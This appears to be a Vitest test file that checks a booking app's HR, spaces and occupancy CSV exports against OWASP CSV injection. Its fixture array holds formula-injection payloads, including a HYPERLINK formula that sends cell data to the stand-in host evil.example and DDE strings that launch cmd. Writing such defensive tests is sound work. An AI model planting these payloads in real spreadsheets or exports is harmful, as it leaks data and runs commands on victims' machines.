import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeTestApp, type TestApp } from './testing.js';

let t: TestApp;
beforeEach(async () => {
  t = await makeTestApp();
  t.clock.set('2026-12-03T12:00:00+01:00');
});
afterEach(() => t.close());

const evil = ['=HYPERLINK("http://evil.example/?"&A2,"klik")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '-2+3+cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];
const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('CSV exports never carry a formula (OWASP CSV injection)', () => {
  it('a name from a person or the identity provider comes out of the HR ticks CSV as text', async () => {
    const admin = await t.login('admin@test.nl');
    expect((await admin.patch(`/api/v1/admin/users/${t.users.anna.id}`, { name: evil[0] })).status).toBe(200);
    const csv = String((await (await t.login('hr@test.nl')).get('/api/v1/hr/ticks.csv?month=2026-12')).body);
    const rows = parse(csv, { bom: true }) as string[][];
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    expect(rows.find((r) => r[0] === 'anna@test.nl')![1]).toBe(`'${evil[0]}`);
  });

  it('space names come out of the spaces CSV as text, and an edited export brings them back unchanged', async () => {
    const facility = await t.login('facility@test.nl');
    for (const [i, name] of evil.entries()) {
      const res = await facility.post(`/api/v1/admin/locations/${t.hub.id}/spaces`, { code: `HUB-3-X0${i}`, name, kind: 'desk' });
      expect(res.status).toBe(201);
    }
    // Stored as given (a leading tab or return is trimmed as any whitespace is).
    const stored = t.db.prepare("SELECT name FROM spaces WHERE code LIKE 'HUB-3-X%' ORDER BY code").pluck().all() as string[];
    const csv = String((await facility.get(`/api/v1/admin/locations/${t.hub.id}/spaces.csv`)).body);
    const rows = parse(csv, { bom: true }) as string[][];
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    for (const [i, name] of stored.entries()) expect(rows.find((r) => r[0] === `HUB-3-X0${i}`)![1]).toBe(`'${name}`);

    // The export goes to another location with new codes: the names arrive as they were typed.
    const other = await facility.post('/api/v1/admin/locations', { name: 'Stadswinkel', kind: 'service' });
    const moved = csv.replaceAll('HUB-3-', 'SW-1-').split('\n').filter((l, i) => i === 0 || l.includes('SW-1-X')).join('\n');
    const imported = await facility.post(`/api/v1/admin/locations/${other.body.id}/spaces/import`, { csv: moved.replaceAll(',Stilte,', ',,') });
    expect(imported.status).toBe(201);
    const names = t.db.prepare("SELECT name FROM spaces WHERE code LIKE 'SW-1-X%' ORDER BY code").pluck().all();
    expect(names).toEqual(stored);
  });

  it('zone names come out of the occupancy CSV as text', async () => {
    const facility = await t.login('facility@test.nl');
    const zone = await facility.post(`/api/v1/admin/locations/${t.hub.id}/zones`, { name: '@SUM(1+1)*cmd', character: 'dynamisch', floor: 1 });
    expect(zone.status).toBe(201);
    const csv = String((await facility.get(`/api/v1/reports/locations/${t.hub.id}/occupancy.csv?from=2026-11-02&to=2026-11-27`)).body);
    const rows = parse(csv, { bom: true, relax_column_count: true }) as string[][];
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    expect(rows.flat()).toContain("'@SUM(1+1)*cmd");
  });
});
